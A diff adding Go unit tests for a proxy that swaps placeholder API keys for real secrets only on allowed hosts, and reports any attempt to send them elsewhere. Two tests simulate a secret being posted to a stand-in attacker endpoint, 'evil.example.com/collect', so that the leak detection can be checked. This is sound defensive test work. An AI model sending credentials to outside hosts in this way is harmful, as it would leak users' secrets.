@@ -0,0 +1,159 @@
+package proxy
+
+import (
+	"io"
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/davidsenack/agentbox/internal/secrets"
+)
+
+func TestSurrogateSwapAllowedHost(t *testing.T) {
+	sur, err := secrets.NewSurrogate("OPENAI_API_KEY", "sk-real-secret-value", []string{"api.openai.com"})
+	if err != nil {
+		t.Fatalf("failed to create surrogate: %v", err)
+	}
+	swapper := NewSurrogateSwapper([]*secrets.Surrogate{sur})
+
+	body := `{"key":"` + sur.Placeholder + `"}`
+	req, _ := http.NewRequest("POST", "http://api.openai.com/v1/chat?k="+sur.Placeholder, strings.NewReader(body))
+	req.Header.Set("Authorization", "Bearer "+sur.Placeholder)
+
+	swapped, leaked := swapper.Swap(req, "api.openai.com")
+	if len(swapped) != 1 || len(leaked) != 0 {
+		t.Fatalf("expected 1 swapped and 0 leaked, got %v / %v", swapped, leaked)
+	}
+
+	if got := req.Header.Get("Authorization"); got != "Bearer sk-real-secret-value" {
+		t.Errorf("header not swapped: %q", got)
+	}
+	if !strings.Contains(req.URL.RawQuery, "sk-real-secret-value") {
+		t.Errorf("query not swapped: %q", req.URL.RawQuery)
+	}
+	data, _ := io.ReadAll(req.Body)
+	if !strings.Contains(string(data), "sk-real-secret-value") {
+		t.Errorf("body not swapped: %q", data)
+	}
+	if req.ContentLength != int64(len(data)) {
+		t.Errorf("content length %d does not match body length %d", req.ContentLength, len(data))
+	}
+}
+
+func TestSurrogateLeakToOtherHost(t *testing.T) {
+	sur, err := secrets.NewSurrogate("OPENAI_API_KEY", "sk-real-secret-value", []string{"api.openai.com"})
+	if err != nil {
+		t.Fatalf("failed to create surrogate: %v", err)
+	}
+	swapper := NewSurrogateSwapper([]*secrets.Surrogate{sur})
+
+	req, _ := http.NewRequest("POST", "http://evil.example.com/collect", strings.NewReader("k="+sur.Placeholder))
+
+	swapped, leaked := swapper.Swap(req, "evil.example.com")
+	if len(swapped) != 0 || len(leaked) != 1 || leaked[0] != "OPENAI_API_KEY" {
+		t.Fatalf("expected leak of OPENAI_API_KEY, got swapped=%v leaked=%v", swapped, leaked)
+	}
+
+	data, _ := io.ReadAll(req.Body)
+	if strings.Contains(string(data), "sk-real-secret-value") {
+		t.Error("real value must never be sent to an unauthorized host")
+	}
+}
+
+func TestSurrogatePlaceholderPrefix(t *testing.T) {
+	sur, err := secrets.NewSurrogate("ANTHROPIC_API_KEY", "sk-ant-api03-secret", []string{"api.anthropic.com"})
+	if err != nil {
+		t.Fatalf("failed to create surrogate: %v", err)
+	}
+	if !strings.HasPrefix(sur.Placeholder, "sk-ant-agentbox-") {
+		t.Errorf("expected placeholder to keep key prefix, got %q", sur.Placeholder)
+	}
+	if strings.Contains(sur.Placeholder, "secret") {
+		t.Error("placeholder must not contain the real value")
+	}
+}
+
+func TestSurrogatePlaceholderUnknownPrefix(t *testing.T) {
+	sur, err := secrets.NewSurrogate("DB_TOKEN", "corp_live-4f2a9c8e1b", []string{"db.example.com"})
+	if err != nil {
+		t.Fatalf("failed to create surrogate: %v", err)
+	}
+	if !strings.HasPrefix(sur.Placeholder, "agentbox-") {
+		t.Errorf("placeholder must not keep the start of an unknown secret, got %q", sur.Placeholder)
+	}
+}
+
+func TestSurrogateSwapChunkedBody(t *testing.T) {
+	sur, err := secrets.NewSurrogate("OPENAI_API_KEY", "sk-real-secret-value", []string{"api.openai.com"})
+	if err != nil {
+		t.Fatalf("failed to create surrogate: %v", err)
+	}
+	swapper := NewSurrogateSwapper([]*secrets.Surrogate{sur})
+
+	chunked := func(host, body string) *http.Request {
+		req, _ := http.NewRequest("POST", "http://"+host+"/upload", io.NopCloser(strings.NewReader(body)))
+		req.ContentLength = -1
+		req.TransferEncoding = []string{"chunked"}
+		return req
+	}
+
+	req := chunked("api.openai.com", "k="+sur.Placeholder)
+	if swapped, _ := swapper.Swap(req, "api.openai.com"); len(swapped) != 1 {
+		t.Fatalf("expected chunked body to be swapped, got %v", swapped)
+	}
+	data, _ := io.ReadAll(req.Body)
+	if string(data) != "k=sk-real-secret-value" || req.ContentLength != int64(len(data)) {
+		t.Errorf("chunked body not swapped: %q (length %d)", data, req.ContentLength)
+	}
+
+	req = chunked("evil.example.com", "k="+sur.Placeholder)
+	if _, leaked := swapper.Swap(req, "evil.example.com"); len(leaked) != 1 {
+		t.Errorf("expected chunked upload to be reported as a leak, got %v", leaked)
+	}
+
+	large := strings.Repeat("x", maxSwapBody) + sur.Placeholder
+	req = chunked("evil.example.com", large)
+	swapper.Swap(req, "evil.example.com")
+	data, _ = io.ReadAll(req.Body)
+	if string(data) != large || req.ContentLength != -1 {
+		t.Error("oversized chunked body should be forwarded unchanged")
+	}
+}
+
+func TestSurrogateUpdate(t *testing.T) {
+	sur, err := secrets.NewSurrogate("OPENAI_API_KEY", "sk-old-secret-value", []string{"api.openai.com"})
+	if err != nil {
+		t.Fatalf("failed to create surrogate: %v", err)
+	}
+	placeholder := sur.Placeholder
+	swapper := NewSurrogateSwapper([]*secrets.Surrogate{sur})
+
+	swapper.Update(map[string]string{"OPENAI_API_KEY": "sk-new-secret-value"})
+
+	req, _ := http.NewRequest("GET", "http://api.openai.com/v1/models", nil)
+	req.Header.Set("Authorization", "Bearer "+placeholder)
+	swapper.Swap(req, "api.openai.com")
+
+	if got := req.Header.Get("Authorization"); got != "Bearer sk-new-secret-value" {
+		t.Errorf("expected rotated value after update, got %q", got)
+	}
+}
+
+func TestSurrogateUpdateRemoved(t *testing.T) {
+	sur, err := secrets.NewSurrogate("OPENAI_API_KEY", "sk-old-secret-value", []string{"api.openai.com"})
+	if err != nil {
+		t.Fatalf("failed to create surrogate: %v", err)
+	}
+	placeholder := sur.Placeholder
+	swapper := NewSurrogateSwapper([]*secrets.Surrogate{sur})
+
+	swapper.Update(map[string]string{"OPENAI_API_KEY": ""})
+
+	req, _ := http.NewRequest("GET", "http://api.openai.com/v1/models", nil)
+	req.Header.Set("Authorization", "Bearer "+placeholder)
+	swapper.Swap(req, "api.openai.com")
+
+	if got := req.Header.Get("Authorization"); got != "Bearer "+placeholder {
+		t.Errorf("expected placeholder left in place after removal, got %q", got)
+	}
+}